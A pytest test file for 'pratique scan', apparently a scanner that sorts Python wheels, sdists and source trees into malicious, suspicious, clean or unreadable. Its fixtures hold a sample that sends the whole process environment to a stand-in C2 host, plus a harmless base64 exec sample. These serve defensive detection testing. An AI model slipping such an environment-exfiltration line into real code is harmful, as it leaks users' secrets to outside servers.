"""`pratique scan` as a person types it, and as programs read it."""

import json
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from pratique.simulators.wheels import sdist, wheel

Run = Callable[..., "subprocess.CompletedProcess[str]"]

SENDS = """\
import json, os, urllib.request

urllib.request.urlopen("https://c2.example.invalid/", data=json.dumps(dict(os.environ)).encode())
"""
RUNS = 'import base64\n\nexec(base64.b64decode("cHJpbnQoJ25vdGhpbmcgaGFwcGVucycp"))\n'


@pytest.fixture
def run(tmp_path: Path) -> Run:
    def run(*arguments: str, **more: str) -> "subprocess.CompletedProcess[str]":
        environment = {**os.environ, "PRATIQUE_HOME": str(tmp_path / "home"), **more}  # noqa: TID251 - a child needs the environment
        return subprocess.run(
            [sys.executable, "-m", "pratique", "scan", *arguments],
            cwd=tmp_path,
            env=environment,
            capture_output=True,
            text=True,
            check=False,
            timeout=120,
        )

    return run


@pytest.fixture
def wheels(tmp_path: Path) -> Path:
    """Two that are clean, one that is malicious, one that is suspicious, and one that cannot be read."""
    folder = tmp_path / "wheels"
    folder.mkdir()
    made = [
        wheel("calmlook", "1.0"),
        sdist("calmlook", "1.1"),
        wheel("sendlook", "1.0", {"sendlook/__init__.py": SENDS}),
        wheel("runlook", "1.0", {"runlook/__init__.py": RUNS}),
        ("broken-1.0.tar.gz", b"\x1f\x8bno"),
    ]
    for name, data in made:
        (folder / name).write_bytes(data)
    return folder


def test_a_folder_of_archives_is_told_in_a_sentence_and_then_the_worst_first(run: Run, wheels: Path) -> None:
    done = run("wheels")
    first, *told = done.stdout.split("\n\n")
    assert done.returncode == 11, done.stderr
    assert first == "5 files looked into: 1 malicious, 1 suspicious, 2 clean, 1 could not be read"
    assert [each.split()[:2] for each in told[:3]] == [
        ["malicious", "wheels/sendlook-1.0-py3-none-any.whl"],
        ["suspicious", "wheels/runlook-1.0-py3-none-any.whl"],
        ["unknown", "wheels/broken-1.0.tar.gz"],
    ]
    assert "  at     sendlook/__init__.py:3 " in told[0]
    assert '         urllib.request.urlopen("https://c2.example.invalid/"' in told[0]
    assert "  why    environment-sent-away: " in told[0]
    assert "  when   when the package is imported" in told[0]
    assert "  do     " in told[0]
    assert "pratique explain environment-sent-away" in told[0]
    assert "pratique scan --why " in told[0]
    assert done.stdout.endswith("Nothing was installed. Nothing was run.\n")
    assert wheels.is_dir()


@pytest.mark.parametrize(
    ("name", "code", "word"),
    [
        ("calmlook-1.0-py3-none-any.whl", 0, "clean"),
        ("calmlook-1.1.tar.gz", 0, "clean"),
        ("runlook-1.0-py3-none-any.whl", 10, "suspicious"),
        ("broken-1.0.tar.gz", 10, "unknown"),
        ("sendlook-1.0-py3-none-any.whl", 11, "malicious"),
    ],
)
def test_the_exit_code_says_it(run: Run, wheels: Path, name: str, code: int, word: str) -> None:
    done = run(f"wheels/{name}")
    assert (done.returncode, done.stdout.split("\n\n")[1].split()[0]) == (code, word)
    quiet = run(f"wheels/{name}", "--quiet")
    assert (quiet.returncode, quiet.stdout) == (code, "")
    assert wheels.is_dir()


def test_single_files_and_source_trees_are_artifacts(run: Run, tmp_path: Path) -> None:
    tree = tmp_path / "tree"
    (tree / "pkg").mkdir(parents=True)
    (tree / "setup.py").write_text(SENDS)
    (tree / "pkg/__init__.py").write_text("A = 1\n")
    (tmp_path / "script.py").write_text(RUNS)
    (tmp_path / "notebook.ipynb").write_text('{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}')
    told = json.loads(run("tree", "script.py", "notebook.ipynb", "--json").stdout)
    assert {each["path"]: each["verdict"] for each in told["artifacts"]} == {
        "tree": "malicious",
        "script.py": "suspicious",
        "notebook.ipynb": "clean",
    }
    assert "  at     tree/setup.py:3 " in run("tree").stdout
    each = [json.loads(line) for line in run("tree", "--each", "--jsonl").stdout.splitlines()]
    assert {one["path"]: one["verdict"] for one in each} == {
        "tree/setup.py": "malicious",
        "tree/pkg/__init__.py": "clean",
    }
    assert run("tree", "--skip", "setup.py").returncode == 0


def test_lines_for_programs_have_what_they_need(run: Run, wheels: Path) -> None:
    done = run("wheels", "--jsonl")
    lines = {line["path"]: line for line in map(json.loads, done.stdout.splitlines())}
    assert len(lines) == 5
    bad = lines["wheels/sendlook-1.0-py3-none-any.whl"]
    assert (bad["verdict"], "environment-sent-away" in bad["rules"], bad["score"] >= 0.9) == ("malicious", True, True)
    assert bad["cpu_ms"] >= 0
    broken = lines["wheels/broken-1.0.tar.gz"]
    assert (broken["verdict"], broken["score"], broken["rules"], bool(broken["why"])) == ("unknown", 0.0, [], True)
    assert lines["wheels/calmlook-1.0-py3-none-any.whl"]["score"] < 0.5
    assert wheels.is_dir()


def test_one_document_for_programs_has_it_all(run: Run, wheels: Path, tmp_path: Path) -> None:
    done = run("wheels", "--json", "-o", "out.json")
    assert (done.returncode, done.stdout) == (11, "")
    told = json.loads((tmp_path / "out.json").read_text())
    assert told["counts"] == {"malicious": 1, "suspicious": 1, "unknown": 1, "clean": 2}
    (found,) = (each for each in told["artifacts"] if each["verdict"] == "malicious")
    assert "limits" in found["confinement"]
    (finding,) = (each for each in found["findings"] if each["rule"] == "environment-sent-away")
    assert (finding["path"], finding["line"], finding["severity"]) == ("sendlook/__init__.py", 3, "critical")
    assert finding["digest"] == found["digest"]
    assert wheels.is_dir()


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        ((), "name what to look into"),
        (("gone.whl",), "gone.whl is not there"),
        (("empty",), "there is nothing to look into"),
        (("--installed", "x.py"), "name what to look into"),
        (("--installed", "--prefix", "empty"), "is no environment of Python"),
        (("--prefix", "a", "--python", "b"), "not both"),
        (("--why", "7F3K2QXD", "x.py"), "a finding stands alone"),
        (("--installed",), "no environment is active"),
        (("pkg:pypi/requests",), "names no single release"),
    ],
)
def test_what_cannot_be_understood_ends_with_2_and_says_what_to_type(
    run: Run, tmp_path: Path, arguments: tuple[str, ...], said: str
) -> None:
    (tmp_path / "empty").mkdir()
    done = run(*arguments, VIRTUAL_ENV="", CONDA_PREFIX="")
    assert done.returncode == 2, done.stdout
    assert said in done.stderr
    assert "  do  " in done.stderr


def test_a_finding_can_be_asked_about_until_its_file_changes(run: Run, wheels: Path) -> None:
    (line,) = (line for line in run("wheels").stdout.splitlines() if "runlook/__init__.py:3" in line)
    name = line.split()[-1]
    why = run("--why", name[:8].lower())
    assert why.returncode == 0, why.stderr
    assert why.stdout.startswith(f"{name}  ")
    assert "  rests  " in why.stdout
    assert "code.exec" in why.stdout
    assert f"  accept pratique waive --finding {name} --reason WHY" in why.stdout
    assert "**Why it matters.**" in why.stdout
    told = json.loads(run("--why", name, "--json").stdout)
    assert {each["label"] for each in told["observations"]} >= {"code.exec"}
    (wheels / "runlook-1.0-py3-none-any.whl").write_bytes(b"other")
    assert "the file is gone or has changed since" in run("--why", name).stdout
    unknown = run("--why", "7F3K2QXD9V0W1Y2Z")
    assert (unknown.returncode, "no finding 7F3K2QXD9V0W1Y2Z is known" in unknown.stderr) == (1, True)


def test_findings_of_folders_rest_on_their_files(run: Run, tmp_path: Path) -> None:
    (tmp_path / "tree/pkg").mkdir(parents=True)
    (tmp_path / "tree/pkg/runs.py").write_text(RUNS)
    (finding,) = json.loads(run("tree", "--json").stdout)["artifacts"][0]["findings"][:1]
    assert finding["path"] == "pkg/runs.py"
    assert "code.exec" in run("--why", finding["id"]).stdout
    (tmp_path / "tree/other.py").write_text("A = 1\n")
    assert finding["id"] in run("tree").stdout, "another file of the folder changes nothing"


def test_a_report_has_no_long_text_and_no_place_of_this_machine(run: Run, tmp_path: Path) -> None:
    secret = "ghs" + "x" * 40
    (tmp_path / "tree").mkdir()
    (tmp_path / "tree/runs.py").write_text(RUNS.rstrip() + f"  # {secret}\n")
    (finding,) = json.loads(run("tree", "--json").stdout)["artifacts"][0]["findings"][:1]
    shown = run("--report", finding["id"])
    assert "-o FILE writes it; nothing is sent" in shown.stderr
    done = run("--report", finding["id"], "-o", "report.json")
    text = (tmp_path / "report.json").read_text()
    assert done.stdout == text == shown.stdout, "what is written was shown"
    assert secret not in text
    assert str(tmp_path) not in text
    told = json.loads(text)
    assert (told["rule"], told["line"], told["artifact"]["file_digest"]) == (finding["rule"], 3, finding["digest"])
    assert {each["label"] for each in told["observations"]} >= {"code.exec"}
    again = run("--report", finding["id"], "-o", "report.json")
    assert (again.returncode, "is there already" in again.stderr) == (2, True)


def test_where_nothing_can_be_kept_it_is_said_and_nothing_else_changes(run: Run, wheels: Path, tmp_path: Path) -> None:
    (tmp_path / "home").write_text("")
    done = run("wheels/runlook-1.0-py3-none-any.whl")
    assert done.returncode == 10, done.stderr
    assert "nothing is kept: " in done.stdout
    assert wheels.is_dir()
